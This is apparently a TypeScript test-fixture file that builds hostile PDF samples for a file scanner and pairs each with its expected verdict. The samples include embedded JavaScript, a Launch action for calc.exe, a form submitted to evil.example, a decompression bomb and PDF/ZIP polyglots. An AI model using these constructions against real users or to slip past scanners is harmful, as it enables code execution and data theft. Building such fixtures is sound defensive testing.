import { deflateSync } from 'node:zlib';
import { archive, pdf } from '../worlds/test-files.ts';
import { CANARY, type HostileFile, MEGABYTE, patchFile, SCRIPT, utf8 } from './hostile-kit.ts';

/** A PDF with an action of this kind on opening. */
const pdfWithAction = (action: string) => pdf(CANARY, { catalog: `/OpenAction ${action}` });

function hiddenInObjectStream(): Buffer {
  const inside = `7 0 <</S/JavaScript/JS(app.alert("${CANARY}"))>>`;
  const packed = deflateSync(Buffer.from(inside, 'latin1'));
  const head = `7 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>\nstream\n`;
  return pdf(CANARY, { objects: `${head}${packed.toString('latin1')}\nendstream endobj\n` });
}

function unpackingObjectStream(): Buffer {
  const packed = deflateSync(Buffer.alloc(120 * MEGABYTE, 32));
  const head = `7 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>\nstream\n`;
  return pdf(CANARY, { objects: `${head}${packed.toString('latin1')}\nendstream endobj\n` });
}

const inStream = (content: string) =>
  `7 0 obj<</Length ${content.length}>>\nstream\n${content}\nendstream endobj\n`;

/** A PDF with an archive in a stream, whose archive comment is the rest of the PDF. */
function commentWithZip(zip: Buffer): Buffer {
  const file = pdf(CANARY, { objects: inStream(zip.toString('latin1')) });
  const end = file.lastIndexOf(zip.subarray(-22)) + 22;
  file.writeUInt16LE(file.length - end, end - 2);
  return file;
}

/** PDFs. */
export async function hostilePdfs(): Promise<HostileFile[]> {
  const good = pdf(CANARY);
  const zip = await archive({ 'x.html': SCRIPT });
  return [
    {
      name: 'a PDF with a script',
      file: pdfWithAction(`<</S/JavaScript/JS(app.alert("${CANARY}"))>>`),
      expected: ['active_content'],
    },
    {
      name: 'a PDF with a script whose name is written in figures',
      file: pdfWithAction('<</S/J#61vaScript/J#53(x)>>'),
      expected: ['active_content'],
    },
    {
      name: 'a PDF with a script inside a packed object',
      file: hiddenInObjectStream(),
      expected: ['active_content'],
    },
    {
      name: 'a PDF that starts a program',
      file: pdfWithAction('<</S/Launch/F(calc.exe)>>'),
      expected: ['active_content'],
    },
    {
      name: 'a PDF that sends a form',
      file: pdfWithAction('<</S/SubmitForm/F(https://evil.example)>>'),
      expected: ['active_content'],
    },
    {
      name: 'a PDF with a file in it',
      file: pdf(CANARY, {
        catalog: '/Names<</EmbeddedFiles<</Names[(a)7 0 R]>>>>',
        objects: '7 0 obj<</Type/Filespec>>endobj\n',
      }),
      expected: ['active_content'],
    },
    {
      name: 'a PDF with an XFA form',
      file: pdf(CANARY, { catalog: '/AcroForm<</XFA 7 0 R>>' }),
      expected: ['active_content'],
    },
    {
      name: 'a PDF behind a password',
      file: pdf(CANARY, { trailer: '/Encrypt<</Filter/Standard/V 2/R 3/P -44/O(x)/U(y)>>' }),
      expected: ['encrypted'],
    },
    {
      name: 'a PDF with an object hidden in a stream',
      file: pdf(CANARY, { objects: inStream('8 0 obj<</S/JavaScript>>endobj') }),
      expected: ['ambiguous'],
    },
    {
      name: 'a PDF whose packed objects unpack to 120 MB',
      file: unpackingObjectStream(),
      expected: ['unpacks_too_large'],
    },
    { name: 'a PDF cut in half', file: good.subarray(0, good.length >> 1), expected: ['damaged'] },
    { name: 'a PDF of its first line', file: utf8('%PDF-1.7\n%%EOF'), expected: ['damaged'] },
    { name: 'a PDF that is a ZIP as well', file: Buffer.concat([good, zip]), expected: ['ambiguous'] },
    {
      name: 'a PDF that is the remark of a ZIP in it',
      file: commentWithZip(await archive({ 'META-INF/MANIFEST.MF': 'Main-Class: A', 'A.class': CANARY })),
      expected: ['ambiguous'],
    },
    {
      name: 'a PDF with a page of HTML behind it',
      file: Buffer.concat([good, utf8(SCRIPT)]),
      expected: ['ambiguous'],
    },
    {
      name: 'a PDF with HTML before it',
      file: Buffer.concat([utf8(SCRIPT), good]),
      expected: ['type_not_taken'],
    },
    {
      name: 'a PDF with a string that never ends',
      file: patchFile(good, '/Size', '(((/Size'),
      expected: ['damaged'],
    },
  ];
}
